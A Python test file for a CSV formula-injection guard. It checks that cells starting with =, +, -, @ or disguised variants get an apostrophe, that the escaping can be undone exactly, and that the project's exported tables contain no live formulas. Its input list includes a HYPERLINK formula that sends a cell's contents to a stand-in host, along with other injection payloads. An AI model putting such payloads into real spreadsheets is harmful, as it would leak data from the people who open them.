"""What no spreadsheet computes, and how it comes back."""

import csv
import io
from pathlib import Path

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from eyetest.curate.repair import Repair
from eyetest.measures.printed import csv_text
from eyetest.recipes.refining import FunnelRow, write_funnel
from eyetest.records import Verdict
from eyetest.tabular.files import read_rows
from eyetest.tabular.record_files import write_records
from eyetest.tabular.sheets import GUARDED, SheetWriter, inert, restored, restored_row

COMPUTED = [
    *(f"{lead}=1" for lead in ("", "\t", "\r", "  ", '"', "'", "''", "\ufeff", "\u200b")),
    *('=HYPERLINK("http://x.invalid/?"&A1)', "+1+1", "-2+3", "@SUM(A1)", "\n@x", "\u00a0+1", "-0.5", "\t", "'\n"),
    *("＝1+1", " －1", "＋1", "＠x"),
]
HARMLESS = ["a=1", "A. -5", "5", "0.5", "'quoted'", '"quoted"', "", "{}", "π", "'", "x\n=1", "– dash"]


@pytest.mark.parametrize("text", COMPUTED)
def test_what_would_be_computed_gets_an_apostrophe(text: str) -> None:
    assert inert(text) == f"'{text}"
    assert restored(inert(text)) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert inert(text) == text == restored(text)


@given(st.text(st.sampled_from("'\"=+-@ \t\nab＝\u200b"), max_size=6) | st.text())
def test_every_text_comes_back(text: str) -> None:
    assert restored(inert(text)) == text


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_tables_that_are_read_again_say_where_guards_are() -> None:
    file = io.StringIO(newline="")
    rows = [("=1", "'-5' it is", -0.5), ("a", "'=1", None)]
    SheetWriter(file, ("item", "text", "score"), mark=True).write(rows)
    head, *written = cells(file.getvalue())
    assert head == ["item", "text", "score", GUARDED]
    assert written == [["'=1", "''-5' it is", "-0.5", "item text"], ["a", "''=1", "", "text"]]
    back = [restored_row(dict(zip(head, row, strict=True))) for row in written]
    assert back == [
        {"item": "=1", "text": "'-5' it is", "score": "-0.5"},
        {"item": "a", "text": "'=1", "score": ""},
    ]


@pytest.mark.parametrize("cell", ["True", "yes text", "0"])
def test_a_column_of_somebody_else_with_that_name_is_theirs(cell: str) -> None:
    row = {"item": "'=1", "text": "'-5", GUARDED: cell}
    assert restored_row(row) == row


def test_a_sheet_of_somebody_else_keeps_its_apostrophes(tmp_path: Path) -> None:
    (tmp_path / "a.csv").write_text("item,text\n1,'-5' is right\n")
    assert [row for _, row in read_rows(tmp_path / "a.csv")] == [{"item": "1", "text": "'-5' is right"}]


def test_tables_of_estimates_hold_no_formula_and_numbers_stay_numbers() -> None:
    table = pl.DataFrame({"model": ["=1", "b", None], "tag.=x": ["+1", "", "c"], "score": [-0.5, 1.0, None]})
    table = table.with_columns(pl.col("model").cast(pl.Categorical))
    assert cells(csv_text(table)) == [
        ["model", "'=x", "score"],
        ["'=1", "'+1", "-0.5"],
        ["b", "", "1.0"],
        ["", "c", ""],
    ]


def test_verdicts_repairs_and_funnels_hold_no_formula(tmp_path: Path) -> None:
    verdict = Verdict(item="=1", stage="+s", verdict="drop", reason="-r", evidence="@e", n=1)
    write_records([verdict], Verdict, tmp_path / "v.csv", overwrite=False)
    repair = Repair(item="=1", change="+k", detail="@2")
    write_records([repair], Repair, tmp_path / "r.csv", overwrite=False)
    write_funnel(tmp_path / "f.csv", [FunnelRow("=s", "+tag", "@v", 3, 1, 1, 1, 0)])
    for name in ("v.csv", "r.csv", "f.csv"):
        (_, row) = cells((tmp_path / name).read_text())
        assert not [cell for cell in row if cell.startswith(("=", "+", "-", "@"))]
        assert len([cell for cell in row if cell.startswith("'")]) >= 3
